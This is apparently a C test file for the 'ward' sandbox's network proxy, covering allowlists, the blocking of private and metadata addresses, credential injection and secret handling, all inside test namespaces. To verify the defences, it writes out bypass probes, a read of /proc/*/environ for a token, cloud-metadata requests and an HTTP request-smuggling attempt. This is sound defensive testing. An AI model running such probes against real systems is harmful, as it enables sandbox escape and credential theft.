/* test-net.c — the network modes for real: the proxy through a veth pair
 * (root) or a loopback listener handed over (uid 65534), the allowlist, the
 * destination check, bypass attempts, credentials, many connections, and
 * what is left behind.
 *
 * Every test first moves into network and mount namespaces of its own
 * (with a user namespace when not root): no packet leaves them. The world
 * each test builds:
 *
 *   test namespace "A" (where ward and its proxy run; ip_forward=1)
 *     lo 127.0.0.1, up0 198.51.100.1/24
 *     an HTTP service on 0.0.0.0:80 answering "host-service"
 *   upstream namespace "B" (a child process), linked to A by a veth pair
 *     eth0 198.51.100.10/24: HTTP on :80 ("upstream-ok" + the request head
 *     it got), TLS on :8443 (openssl s_server), UDP echo on :7
 *   /etc/hosts bind-mounted over with the names below, so that the proxy's
 *   resolver (which runs in the test process) sees them. */
#include "harness.h"
#include "ward/request.h"
#include "ward/sandbox.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <netlink/netlink.h>
#include <netlink/route/link.h>
#include <netlink/route/link/veth.h>

#define UPSTREAM "198.51.100.10"
#define HOST_ADDR "198.51.100.1"

static const char hosts[] =
	"127.0.0.1 localhost\n" UPSTREAM " www.example.com deep.sub.example.com example.com "
	"blocked.example.com other.example.net tls.example.com\n"
	"127.0.0.1 internal.example.com\n"
	"10.200.0.1 private.example.com\n"
	"169.254.169.254 metadata.example.com\n";

static struct {
	char *dir;   /* the sandbox's workdir */
	char *probe; /* net-probe, copied into dir */
	pid_t upstream;
} W;

static void put_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	ck_assert_msg(fd >= 0, "open '%s': %s", path, strerror(errno));
	ck_assert_int_eq(write(fd, s, strlen(s)), (ssize_t)strlen(s));
	close(fd);
}

static void if_config(const char *name, const char *addr)
{
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct ifreq ifr;

	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", name);
	if (addr) {
		struct sockaddr_in *sa = (struct sockaddr_in *)&ifr.ifr_addr;

		sa->sin_family = AF_INET;
		inet_pton(AF_INET, addr, &sa->sin_addr);
		if (ioctl(s, SIOCSIFADDR, &ifr) < 0)
			_exit(90);
		inet_pton(AF_INET, "255.255.255.0", &sa->sin_addr);
		if (ioctl(s, SIOCSIFNETMASK, &ifr) < 0)
			_exit(91);
	}
	if (ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
		_exit(92);
	ifr.ifr_flags |= IFF_UP;
	if (ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
		_exit(93);
	close(s);
}

static int listen_on(int type, uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int one = 1, fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    (type == SOCK_STREAM && listen(fd, 256) < 0))
		_exit(94);
	return fd;
}

/* One connection: read the head (and a Content-Length body), answer with
 * the tag and the head as the body. */
static void http_answer(int c, const char *tag)
{
	char buf[16384], out[20000];
	size_t n = 0;
	char *end = NULL;
	int len;

	while (n < sizeof(buf) - 1 && !end) {
		ssize_t r = read(c, buf + n, sizeof(buf) - 1 - n);

		if (r <= 0)
			_exit(0);
		n += (size_t)r;
		buf[n] = '\0';
		end = strstr(buf, "\r\n\r\n");
	}
	*end = '\0';
	if (strncmp(buf, "POST /up ", 9) == 0) {
		/* a chunked upload: read to its last chunk, say how much came */
		size_t got = n - (size_t)(end + 4 - buf);
		char tail[8] = "";

		memcpy(tail, end + 4 + (got > 7 ? got - 7 : 0), got > 7 ? 7 : got);
		while (strcmp(tail, "\r\n0\r\n\r\n") != 0) {
			char b[4096];
			ssize_t r = read(c, b, sizeof(b));

			if (r <= 0)
				_exit(0);
			got += (size_t)r;
			if (r >= 7) {
				memcpy(tail, b + r - 7, 7);
			} else {
				memmove(tail, tail + r, (size_t)(7 - r));
				memcpy(tail + 7 - r, b, (size_t)r);
			}
			tail[7] = '\0';
		}
		len = snprintf(out, sizeof(out), "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n"
				"Connection: close\r\n\r\n", snprintf(NULL, 0, "body %zu\n", got));
		len += snprintf(out + len, sizeof(out) - (size_t)len, "body %zu\n", got);
		if (write(c, out, (size_t)len) < 0)
			_exit(1);
		_exit(0);
	}
	if (strncmp(buf, "POST /echo ", 11) == 0) {
		/* a Content-Length body: the head and the body back */
		const char *cl = strcasestr(buf, "\r\ncontent-length:");
		size_t want = cl ? strtoul(cl + 17, NULL, 10) : 0, got = n - (size_t)(end + 4 - buf);
		char body[8192];

		if (want >= sizeof(body))
			_exit(1);
		memcpy(body, end + 4, got);
		while (got < want) {
			ssize_t r = read(c, body + got, want - got);

			if (r <= 0)
				_exit(0);
			got += (size_t)r;
		}
		len = snprintf(out, sizeof(out), "HTTP/1.1 200 OK\r\nConnection: close\r\n"
				"Content-Length: %zu\r\n\r\n%s\n%.*s\n", strlen(buf) + got + 2, buf,
				(int)got, body);
		if (write(c, out, (size_t)len) < 0)
			_exit(1);
		_exit(0);
	}
	if (strncmp(buf, "GET /big ", 9) == 0) {
		/* 5 MiB: more than any buffer or pipe of the proxy */
		static char chunk[65536];

		memset(chunk, 'x', sizeof(chunk));
		len = snprintf(out, sizeof(out), "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n"
				"Connection: close\r\n\r\n", 80 * 65536);
		if (write(c, out, (size_t)len) < 0)
			_exit(1);
		for (int i = 0; i < 80; i++)
			if (write(c, chunk, sizeof(chunk)) != (ssize_t)sizeof(chunk))
				_exit(1);
		_exit(0);
	}
	len = snprintf(out, sizeof(out),
		       "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n"
		       "Content-Length: %zu\r\n\r\n%s\n%s\n",
		       strlen(tag) + strlen(buf) + 2, tag, buf);
	if (write(c, out, (size_t)len) < 0)
		_exit(1);
	shutdown(c, SHUT_WR);
	while (read(c, buf, sizeof(buf)) > 0)
		;
	_exit(0);
}

static void http_serve(int l, const char *tag)
{
	signal(SIGCHLD, SIG_IGN); /* children reap themselves */
	for (;;) {
		int c = accept4(l, NULL, NULL, SOCK_CLOEXEC);

		if (c < 0)
			continue;
		if (fork() == 0)
			http_answer(c, tag);
		close(c);
	}
}

static pid_t spawn_server(void (*fn)(int, const char *), int fd, const char *tag)
{
	pid_t pid = fork();

	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fn(fd, tag);
		_exit(0);
	}
	return pid;
}

static void udp_echo(int fd, const char *tag)
{
	for (;;) {
		struct sockaddr_storage from;
		socklen_t l = sizeof(from);
		char buf[256];
		ssize_t n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &l);

		if (n > 0)
			sendto(fd, buf, (size_t)n, 0, (struct sockaddr *)&from, l);
	}
}

static void upstream_main(int ready, int go, const char *cert, const char *key)
{
	char c;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (unshare(CLONE_NEWNET) < 0)
		_exit(95);
	if (write(ready, "n", 1) != 1 || read(go, &c, 1) != 1)
		_exit(96);
	if_config("lo", NULL);
	if_config("eth0", UPSTREAM);
	spawn_server(udp_echo, listen_on(SOCK_DGRAM, 7), NULL);
	if (cert) {
		pid_t pid = fork();

		if (pid == 0) {
			/* -WWW: files of the current directory (the workdir) */
			char *argv[] = { (char *)"openssl", (char *)"s_server", (char *)"-quiet",
					 (char *)"-WWW", (char *)"-accept", (char *)"8443",
					 (char *)"-cert", (char *)cert, (char *)"-key", (char *)key,
					 NULL };
			int null = open("/dev/null", O_RDWR);

			prctl(PR_SET_PDEATHSIG, SIGKILL);
			if (chdir(W.dir) < 0)
				_exit(126);
			dup2(null, 0);
			dup2(null, 1);
			dup2(null, 2);
			execvp("openssl", argv);
			_exit(127);
		}
	}
	{
		int l = listen_on(SOCK_STREAM, 80);

		if (write(ready, "r", 1) != 1)
			_exit(97);
		http_serve(l, "upstream-ok");
	}
}

static bool can_connect(const char *addr, uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	bool ok;

	inet_pton(AF_INET, addr, &sa.sin_addr);
	ok = connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0;
	close(fd);
	return ok;
}

static void write_proc(const char *path, const char *s)
{
	put_file(path, s);
}

/* The world above; with_tls also makes a certificate and starts s_server. */
static void world_up(bool with_tls)
{
	char path[PATH_MAX], *cert = NULL, *key = NULL;
	int ready[2], go[2];
	char c;

	W.dir = harness_tmpdir();
	if (with_tls) {
		char *out = NULL, *err = NULL;
		int st;

		ck_assert(asprintf(&cert, "%s/cert.pem", W.dir) > 0);
		snprintf(path, sizeof(path), "%s/hello.txt", W.dir);
		put_file(path, "hello over tls\n");
		snprintf(path, sizeof(path), "%s/big.bin", W.dir);
		{
			int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

			ck_assert_int_ge(fd, 0);
			ck_assert_int_eq(ftruncate(fd, 3 << 20), 0); /* 3 MiB of zeros */
			close(fd);
		}
		ck_assert(asprintf(&key, "%s/key.pem", W.dir) > 0);
		{
			char *argv[] = { (char *)"openssl", (char *)"req", (char *)"-x509",
					 (char *)"-newkey", (char *)"ec", (char *)"-pkeyopt",
					 (char *)"ec_paramgen_curve:prime256v1", (char *)"-nodes",
					 (char *)"-keyout", key, (char *)"-out", cert, (char *)"-subj",
					 (char *)"/CN=tls.example.com", (char *)"-days", (char *)"2", NULL };

			st = harness_capture(argv, &out, &err);
			ck_assert_msg(st == 0, "openssl req: %s", err);
			free(out);
			free(err);
		}
	}
	if (geteuid() != 0) {
		char map[64];
		uid_t uid = geteuid();
		gid_t gid = getegid();

		ck_assert_msg(unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS) == 0, "unshare: %s",
			      strerror(errno));
		write_proc("/proc/self/setgroups", "deny");
		snprintf(map, sizeof(map), "%u %u 1\n", uid, uid);
		write_proc("/proc/self/uid_map", map);
		snprintf(map, sizeof(map), "%u %u 1\n", gid, gid);
		write_proc("/proc/self/gid_map", map);
	} else {
		ck_assert_msg(unshare(CLONE_NEWNET | CLONE_NEWNS) == 0, "unshare: %s", strerror(errno));
	}
	ck_assert_int_eq(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
	snprintf(path, sizeof(path), "%s/hosts", W.dir);
	put_file(path, hosts);
	ck_assert_msg(mount(path, "/etc/hosts", NULL, MS_BIND, NULL) == 0, "bind /etc/hosts: %s",
		      strerror(errno));
	if_config("lo", NULL);
	write_proc("/proc/sys/net/ipv4/ip_forward", "1");

	/* B and the pair to it */
	ck_assert_int_eq(pipe2(ready, O_CLOEXEC), 0);
	ck_assert_int_eq(pipe2(go, O_CLOEXEC), 0);
	W.upstream = fork();
	ck_assert_int_ge(W.upstream, 0);
	if (W.upstream == 0)
		upstream_main(ready[1], go[0], cert, key);
	ck_assert_int_eq(read(ready[0], &c, 1), 1);
	{
		struct nl_sock *sk = nl_socket_alloc();

		ck_assert_int_eq(nl_connect(sk, NETLINK_ROUTE), 0);
		ck_assert_int_eq(rtnl_link_veth_add(sk, "up0", "eth0", W.upstream), 0);
		nl_socket_free(sk);
	}
	if_config("up0", HOST_ADDR);
	ck_assert_int_eq(write(go[1], "g", 1), 1);
	ck_assert_msg(read(ready[0], &c, 1) == 1 && c == 'r', "the upstream did not start");
	close(ready[0]);
	close(ready[1]);
	close(go[0]);
	close(go[1]);
	/* a service of the "host" on every address */
	spawn_server(http_serve, listen_on(SOCK_STREAM, 80), "host-service");
	if (with_tls) {
		int i;

		for (i = 0; i < 300 && !can_connect(UPSTREAM, 8443); i++)
			usleep(10000);
		ck_assert_msg(i < 300, "s_server did not start");
	}
	/* the probe where the sandbox sees it */
	{
		char *rel = harness_path("tests/helpers/net-probe"), *src = realpath(rel, NULL);
		char *argv[] = { (char *)"cp", src, W.dir, NULL };

		ck_assert_msg(src, "no '%s'", rel);
		ck_assert_int_eq(harness_capture(argv, NULL, NULL), 0);
		ck_assert(asprintf(&W.probe, "%s/net-probe", W.dir) > 0);
		free(rel);
		free(src);
	}
	free(cert);
	free(key);
}

static void world_down(void)
{
	if (W.upstream > 0)
		kill(W.upstream, SIGKILL);
	if (W.dir)
		harness_rmtree(W.dir);
}

static void net_config(struct ward_config *cfg, enum ward_net_transport t)
{
	struct ward_error *err = NULL;

	ward_config_init(cfg);
	ck_assert_int_eq(ward_config_set_workdir(cfg, W.dir, &err), 0);
	cfg->timeout = 60;
	cfg->net = WARD_NET_PROXY;
	/* Unprivileged, the test's own user namespace gives ward capabilities
	 * there: ask for the hand-over explicitly. */
	cfg->net_transport = geteuid() == 0 ? t : WARD_NET_TRANSPORT_LOOPBACK;
}

static void allow(struct ward_config *cfg, bool deny, const char *spec)
{
	ck_assert_int_eq(ward_netpolicy_add_host(&cfg->netpolicy, deny, spec, NULL), 0);
}

static void run(struct ward_config *cfg, const char *cmd, struct ward_result *res)
{
	struct ward_error *err = NULL;
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)cmd, NULL };

	ck_assert_msg(ward_run(cfg, argv, res, &err) == 0, "ward_run: %s", err ? err->message : "");
	ck_assert_msg(!res->error, "'%s': %s\n%s", cmd, res->error ? res->error->message : "",
		      res->output);
}

static const struct ward_net_record *find(const struct ward_result *res, const char *method,
					  const char *host)
{
	for (size_t i = 0; i < res->n_net_records; i++)
		if (strcmp(res->net_records[i].host, host) == 0 &&
		    strcmp(res->net_records[i].method, method) == 0)
			return &res->net_records[i];
	ck_abort_msg("no record of %s %s among %zu", method, host, res->n_net_records);
	return NULL;
}

static void has_line(const char *out, const char *line)
{
	const char *p = out;
	size_t n = strlen(line);

	while ((p = strstr(p, line))) {
		if ((p == out || p[-1] == '\n') && (p[n] == '\n' || p[n] == '\0' || p[n] == '\r'))
			return;
		p += n;
	}
	ck_abort_msg("no line '%s' in:\n%s", line, out);
}

/* The proxy as the sandbox sees it: "10.0.2.1" or "127.0.0.1". */
static const char *proxy_ip(const struct ward_result *res, char *buf)
{
	sscanf(res->net_proxy, "http://%15[0-9.]", buf);
	return buf;
}

static void check_allowlist(enum ward_net_transport t)
{
	struct ward_config cfg;
	struct ward_result res;
	const struct ward_net_record *r;
	char log[PATH_MAX], *text = NULL;
	const char *cmd =
		"w='%{http_code} %{http_connect}\\n'; c='curl -s -o /dev/null -m 10 -w'\n"
		"echo www $($c \"$w\" http://www.example.com/)\n"
		"echo deep $($c \"$w\" http://deep.sub.example.com/x)\n"
		"echo apex $($c \"$w\" http://example.com/)\n"
		"echo other $($c \"$w\" http://other.example.net/)\n"
		"echo blocked $($c \"$w\" http://blocked.example.com/)\n"
		"echo tls $($c \"$w\" -k https://tls.example.com:8443/hello.txt)\n"
		"echo tlsother $($c \"$w\" -k https://other.example.net:8443/)\n"
		"echo port $($c \"$w\" http://www.example.com:8443/)\n"
		"curl -s -m 10 http://www.example.com/ | head -1\n"
		"curl -sk -m 10 https://tls.example.com:8443/hello.txt\n"
		"echo bigtls $(curl -sk -m 20 https://tls.example.com:8443/big.bin | wc -c)\n"
		"echo bighttp $(curl -s -m 20 http://www.example.com/big | wc -c)\n"
		"curl -s -m 10 http://other.example.net/\n";

	net_config(&cfg, t);
	allow(&cfg, false, "*.example.com");
	allow(&cfg, false, "tls.example.com:8443");
	allow(&cfg, true, "blocked.example.com");
	snprintf(log, sizeof(log), "%s/net.log", W.dir);
	cfg.net_log = strdup(log);
	run(&cfg, cmd, &res);
	ck_assert_int_eq(res.net_mode, WARD_NET_PROXY);
	ck_assert_str_eq(res.net_transport, cfg.net_transport == WARD_NET_TRANSPORT_LOOPBACK ?
						    "loopback" : "veth");
	has_line(res.output, "www 200 000");
	has_line(res.output, "deep 200 000");
	has_line(res.output, "apex 403 000");
	has_line(res.output, "other 403 000");
	has_line(res.output, "blocked 403 000");
	has_line(res.output, "tls 200 200");
	has_line(res.output, "tlsother 000 403");
	has_line(res.output, "port 403 000");
	has_line(res.output, "upstream-ok");
	has_line(res.output, "hello over tls");
	has_line(res.output, "bigtls 3145728");
	has_line(res.output, "bighttp 5242880");
	has_line(res.output, "ward proxy: other.example.net not on the allowlist");

	r = find(&res, "GET", "www.example.com");
	ck_assert_str_eq(r->decision, "allow");
	ck_assert_str_eq(r->rule, "allow-host *.example.com");
	ck_assert_str_eq(r->address, UPSTREAM);
	ck_assert_int_eq(r->port, 80);
	ck_assert(r->bytes_up > 0 && r->bytes_down > 0);
	ck_assert_int_eq(r->status, 200); /* the upstream's */
	r = find(&res, "GET", "example.com");
	ck_assert_str_eq(r->decision, "deny");
	ck_assert_str_eq(r->rule, "example.com not on the allowlist");
	ck_assert_int_eq(r->status, 403);
	ck_assert_int_eq((int)r->bytes_down, 0);
	r = find(&res, "GET", "blocked.example.com");
	ck_assert_str_eq(r->rule, "deny-host blocked.example.com");
	r = find(&res, "CONNECT", "tls.example.com");
	ck_assert_str_eq(r->decision, "allow");
	ck_assert_str_eq(r->rule, "allow-host tls.example.com:8443");
	ck_assert_int_eq(r->status, 200);
	ck_assert_int_eq(r->port, 8443);
	ck_assert(r->bytes_up > 100 && r->bytes_down > 100); /* a TLS handshake went through */
	r = find(&res, "CONNECT", "other.example.net");
	ck_assert_str_eq(r->decision, "deny");
	ck_assert_int_eq(res.n_net_records, 13);
	{
		uint64_t most = 0;

		for (size_t i = 0; i < res.n_net_records; i++)
			if (res.net_records[i].bytes_down > most)
				most = res.net_records[i].bytes_down;
		ck_assert_uint_ge(most, 5242880);
		ck_assert_uint_lt(most, 5242880 + 1024); /* the body and a head */
	}

	/* the audit log has the same records, one JSON line each */
	{
		char *argv[] = { (char *)"cat", log, NULL };
		json_error_t jerr;
		size_t lines = 0;

		ck_assert_int_eq(harness_capture(argv, &text, NULL), 0);
		for (char *l = strtok(text, "\n"); l; l = strtok(NULL, "\n")) {
			json_t *o = json_loads(l, 0, &jerr);

			ck_assert_msg(o && json_is_string(json_object_get(o, "decision")), "%s", l);
			json_decref(o);
			lines++;
		}
		ck_assert_uint_eq(lines, res.n_net_records);
		free(text);
		unlink(log);
	}
	ward_result_release(&res);
	ward_config_release(&cfg);
}

START_TEST(test_allowlist_http_https)
{
	world_up(true);
	check_allowlist(WARD_NET_TRANSPORT_AUTO);
	if (geteuid() == 0)
		check_allowlist(WARD_NET_TRANSPORT_LOOPBACK); /* the hand-over, as root too */
	world_down();
}
END_TEST

/* Bypass attempts, with Landlock off so that the namespace alone is tested,
 * and again with it; --net=host shows the same probes can succeed. */
START_TEST(test_bypass)
{
	struct ward_config cfg;
	struct ward_result res;
	char cmd[4096], ip[16] = "";
	int pass;

	world_up(false);
	for (pass = 0; pass < 3; pass++) {
		bool host = pass == 2;

		net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
		allow(&cfg, false, "www.example.com");
		if (pass == 0)
			cfg.landlock = WARD_LANDLOCK_OFF;
		if (pass == 1)
			ck_assert_int_eq(ward_config_add_local_port(&cfg, "80", NULL), 0);
		if (host)
			cfg.net = WARD_NET_HOST;
		snprintf(cmd, sizeof(cmd),
			 "P=%s\n"
			 "echo noproxy $(curl --noproxy '*' -s -o /dev/null -m 1 -w '%%{http_code}' "
			 "http://" UPSTREAM "/)\n"
			 "echo direct-ip $(curl -s -o /dev/null -m 1 -w '%%{http_code}' "
			 "http://" UPSTREAM "/)\n"
			 "$P tcp " UPSTREAM " 80\n"
			 "$P tcp " UPSTREAM " 8443\n"
			 "$P tcp " HOST_ADDR " 80\n"
			 "$P udp " UPSTREAM " 7\n"
			 "$P tcp 10.0.2.1 22\n"
			 "$P tcp 10.0.2.1 80\n"
			 "$P tcp 127.0.0.1 80\n"
			 "env | grep -q '^HTTP_PROXY=' && "
			 "$P tcp $(echo $HTTP_PROXY | sed 's,http://,,; s,:, ,')\n",
			 W.probe);
		run(&cfg, cmd, &res);
		if (host) {
			ck_assert_int_eq(res.net_mode, WARD_NET_HOST);
			has_line(res.output, "noproxy 200");
			has_line(res.output, "tcp " UPSTREAM ":80 connected");
			has_line(res.output, "tcp " HOST_ADDR ":80 connected");
			has_line(res.output, "udp " UPSTREAM ":7 reply");
		} else {
			proxy_ip(&res, ip);
			has_line(res.output, "noproxy 000");
			has_line(res.output, "direct-ip 403"); /* IP literals are not listed */
			ck_assert_msg(!strstr(res.output, "tcp " UPSTREAM ":80 connected") &&
					      !strstr(res.output, "tcp " UPSTREAM ":8443 connected") &&
					      !strstr(res.output, "tcp " HOST_ADDR ":80 connected") &&
					      !strstr(res.output, "udp " UPSTREAM ":7 reply") &&
					      !strstr(res.output, "10.0.2.1:22 connected") &&
					      !strstr(res.output, "10.0.2.1:80 connected") &&
					      !strstr(res.output, "127.0.0.1:80 connected"),
				      "a bypass worked (pass %d):\n%s", pass, res.output);
			if (pass == 1) {
				/* Landlock: connect only to the proxy's port and the
				 * listed local port */
				has_line(res.output, "tcp 10.0.2.1:22 Permission denied");
				has_line(res.output, "tcp 127.0.0.1:80 Connection refused");
			}
			/* the probe itself works: the proxy's port answers */
			{
				char line[64];

				snprintf(line, sizeof(line), "tcp %s:3128 connected", ip);
				has_line(res.output, line);
			}
		}
		ward_result_release(&res);
		ward_config_release(&cfg);
	}
	world_down();
}
END_TEST

START_TEST(test_private_destinations)
{
	struct ward_config cfg;
	struct ward_result res;
	const struct ward_net_record *r;
	const char *cmd = "for h in internal private metadata; do "
			  "echo $h $(curl -s -m 5 http://$h.example.com/ | head -2 | tail -1); done\n"
			  "echo meta-ip $(curl -s -o /dev/null -w '%{http_code}' http://169.254.169.254/)\n"
			  "echo own $(curl -s -o /dev/null -w '%{http_code}' http://" HOST_ADDR "/)\n"
			  "echo closed $(curl -s -m 5 -w ' %{http_code}' http://www.example.com:8081/)\n"
			  "echo nxname $(curl -s -m 10 -w ' %{http_code}' http://nothere.example.com/)\n";

	world_up(false);
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	allow(&cfg, false, "*.example.com");
	allow(&cfg, false, HOST_ADDR);
	allow(&cfg, false, "www.example.com:8081");
	run(&cfg, cmd, &res);
	/* upstream failures are 502 with the reason */
	has_line(res.output, "closed ward proxy: connect to " UPSTREAM " port 8081: Connection "
			     "refused 502");
	ck_assert_msg(strstr(res.output, "nxname ward proxy: cannot resolve 'nothere.example.com': ") &&
			      strstr(res.output, " 502\n"),
		      "%s", res.output);
	r = find(&res, "GET", "nothere.example.com");
	ck_assert_str_eq(r->decision, "error");
	ck_assert_int_eq(r->status, 502);
	has_line(res.output, "internal ward proxy: loopback address 127.0.0.1 (list it with "
			     "--allow-cidr)");
	has_line(res.output, "private ward proxy: private address 10.200.0.1 (list it with "
			     "--allow-cidr)");
	has_line(res.output, "metadata ward proxy: metadata address 169.254.169.254 (list it with "
			     "--allow-cidr)");
	has_line(res.output, "meta-ip 403");
	has_line(res.output, "own 403");
	r = find(&res, "GET", "internal.example.com");
	ck_assert_str_eq(r->decision, "deny");
	ck_assert_str_eq(r->address, "");
	r = find(&res, "GET", HOST_ADDR);
	ck_assert_str_eq(r->rule, "host's own address " HOST_ADDR " (list it with --allow-cidr)");
	ward_result_release(&res);
	ward_config_release(&cfg);

	/* listed: the same name reaches the service on the test's loopback */
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	allow(&cfg, false, "*.example.com");
	ck_assert_int_eq(ward_netpolicy_add_cidr(&cfg.netpolicy, "127.0.0.1/32", NULL), 0);
	run(&cfg, "curl -s -m 5 http://internal.example.com/ | head -1", &res);
	has_line(res.output, "host-service");
	r = find(&res, "GET", "internal.example.com");
	ck_assert_str_eq(r->decision, "allow");
	ck_assert_str_eq(r->rule, "allow-host *.example.com; allow-cidr 127.0.0.1/32");
	ck_assert_str_eq(r->address, "127.0.0.1");
	ward_result_release(&res);
	ward_config_release(&cfg);
	world_down();
}
END_TEST

START_TEST(test_credential_injection)
{
	struct ward_config cfg;
	struct ward_result res;
	const struct ward_net_record *r;
	struct ward_error *err = NULL;

	world_up(false);
	setenv("WARD_TEST_TOKEN", "tok-5e3c7", 1);
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	allow(&cfg, false, "www.example.com");
	allow(&cfg, false, "other.example.net");
	ck_assert_int_eq(ward_netpolicy_add_credential(
				 &cfg.netpolicy,
				 "www.example.com=Authorization: Bearer ${WARD_TEST_TOKEN}", &err),
			 0);
	run(&cfg,
	    "curl -s -m 5 -H 'Authorization: mine' -H 'X-Keep: 1' http://www.example.com/a\n"
	    "echo ---\n"
	    "curl -s -m 5 http://other.example.net/b\n"
	    "echo ---\n"
	    "(env; cat /proc/*/environ 2>/dev/null) | grep -c tok-5e3c7\n",
	    &res);
	ward_result_release(&res);
	res = (struct ward_result){ 0 };
	{
		struct ward_result res2;

		/* request bodies: chunked passes, an ambiguous length does not */
		run(&cfg,
		    "seq 1 20000 > /tmp/body\n"
		    "curl -s -m 5 -H 'Expect:' -H 'Transfer-Encoding: chunked' --data-binary @/tmp/body"
		    " http://www.example.com/up\n"
		    "echo smuggle $(curl -s -m 5 -H 'Transfer-Encoding: chunked' -H 'Content-Length: 5'"
		    " --data-binary hello -w ' %{http_code}' http://www.example.com/up)\n",
		    &res2);
		{
			/* 108894 bytes of body and the chunks' framing, all of it */
			const char *b = strstr(res2.output, "body ");

			ck_assert_msg(b && strtoul(b + 5, NULL, 10) > 108894, "%s", res2.output);
		}
		has_line(res2.output, "smuggle ward proxy: both Content-Length and Transfer-Encoding 400");
		r = find(&res2, "POST", "www.example.com");
		ck_assert_uint_gt(r->bytes_up, 108894); /* the body, 108894 bytes, and its framing */
		ward_result_release(&res2);
	}
	run(&cfg,
	    "curl -s -m 5 -H 'Authorization: mine' -H 'X-Keep: 1' http://www.example.com/a\n"
	    "echo ---\n"
	    "curl -s -m 5 http://other.example.net/b\n"
	    "echo ---\n"
	    "(env; cat /proc/*/environ 2>/dev/null) | grep -c tok-5e3c7\n",
	    &res);
	/* the upstream got it, once, instead of the sandbox's own */
	has_line(res.output, "Authorization: Bearer tok-5e3c7");
	has_line(res.output, "X-Keep: 1");
	has_line(res.output, "GET /a HTTP/1.1");
	has_line(res.output, "Connection: close");
	ck_assert_msg(!strstr(res.output, "Authorization: mine") &&
			      !strstr(res.output, "Proxy-Connection"),
		      "%s", res.output);
	/* not to another host, and never inside */
	{
		const char *second = strstr(res.output, "---\n"), *third;

		ck_assert_ptr_nonnull(second);
		third = strstr(second + 4, "---\n");
		ck_assert_ptr_nonnull(third);
		ck_assert_msg(strstr(second, "GET /b") && !memmem(second, (size_t)(third - second),
								 "Bearer", 6),
			      "%s", res.output);
		ck_assert_msg(strcmp(third, "---\n0\n") == 0, "the secret is inside:\n%s",
			      res.output);
	}
	r = find(&res, "GET", "www.example.com");
	ck_assert_str_eq(r->rule, "allow-host www.example.com; credential added");
	ward_result_release(&res);
	ward_config_release(&cfg);

	/* a credential naming an unset variable fails before anything runs */
	unsetenv("WARD_TEST_TOKEN");
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	ck_assert_int_eq(ward_netpolicy_add_credential(
				 &cfg.netpolicy, "www.example.com=Authorization: Bearer $WARD_TEST_TOKEN",
				 &err),
			 0);
	{
		char *argv[] = { (char *)"/bin/true", NULL };

		ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
		ck_assert_ptr_nonnull(res.error);
		ck_assert_msg(strstr(res.error->message, "'WARD_TEST_TOKEN' is not set"), "%s",
			      res.error->message);
		ck_assert(!res.started);
	}
	ward_result_release(&res);
	ward_config_release(&cfg);
	world_down();
}
END_TEST

/* --secret and --allow-request through the real proxy: the stand-in
 * replaced towards its host only (request line, header, body), refused to
 * any other host in every form and place tried, the request rules with
 * their ambiguous paths, the records. */
START_TEST(test_secrets_and_rules)
{
	struct ward_config cfg;
	struct ward_result res;
	const struct ward_net_record *r;
	struct ward_error *err = NULL;
	json_t *o;

	world_up(false);
	setenv("WARD_TEST_SECRET", "real-7f3a9c", 1);
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	allow(&cfg, false, "other.example.net");
	allow(&cfg, false, "tls.example.com:8443");
	ck_assert_int_eq(ward_netpolicy_add_secret(&cfg.netpolicy, "WARD_TEST_SECRET=www.example.com",
						   &err), 0);
	ck_assert_int_eq(ward_netpolicy_add_request(&cfg.netpolicy, "www.example.com GET /ok/**",
						    &err), 0);
	ck_assert_int_eq(ward_netpolicy_add_request(&cfg.netpolicy, "www.example.com POST /echo",
						    &err), 0);
	run(&cfg,
	    "S=$WARD_TEST_SECRET; c='curl -s -m 5 -o /dev/null -w %{http_code}'\n"
	    "echo standin $(echo $S | cut -c1-10)\n"
	    "curl -s -m 5 -H \"X-Key: $S\" \"http://www.example.com/ok/a?k=$S\"\n"
	    "echo ---\n"
	    "curl -s -m 5 -H 'Expect:' --data-binary \"{\\\"t\\\":\\\"$S\\\"}\" "
	    "http://www.example.com/echo\n"
	    "echo ---\n"
	    "curl -s -m 5 --expect100-timeout 30 -H 'Expect: 100-continue' --data-binary "
